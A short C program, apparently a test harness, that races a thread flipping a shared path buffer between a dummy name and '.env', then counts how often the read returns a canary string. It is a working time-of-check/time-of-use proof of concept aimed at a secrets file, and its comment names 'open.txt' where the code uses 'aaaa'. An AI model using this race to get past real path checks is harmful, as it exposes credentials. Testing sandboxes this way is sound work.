// race opens a path COUNT times while a thread flips it between open.txt and
// .env, and prints how often it read the secret.
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static volatile char path[16] = "aaaa";
static volatile int done;

static void *flip(void *p) {
	while (!done) {
		path[0] = 'a'; path[1] = 'a'; path[2] = 'a'; path[3] = 'a';
		for (volatile int i = 0; i < 40; i++);
		path[0] = '.'; path[1] = 'e'; path[2] = 'n'; path[3] = 'v';
		for (volatile int i = 0; i < 40; i++);
	}
	return 0;
}

int main(int argc, char **argv) {
	int count = atoi(argv[1]), leaks = 0, opened = 0;
	char buf[64];
	pthread_t t;
	pthread_create(&t, 0, flip, 0);
	for (int i = 0; i < count; i++) {
		int fd = open((char *)path, O_RDONLY);
		if (fd < 0) continue;
		opened++;
		int n = read(fd, buf, sizeof buf);
		if (n > 0 && memmem(buf, n, "CANARY", 6)) leaks++;
		close(fd);
	}
	done = 1;
	pthread_join(t, 0);
	printf("leaks=%d opened=%d\n", leaks, opened);
	return 0;
}
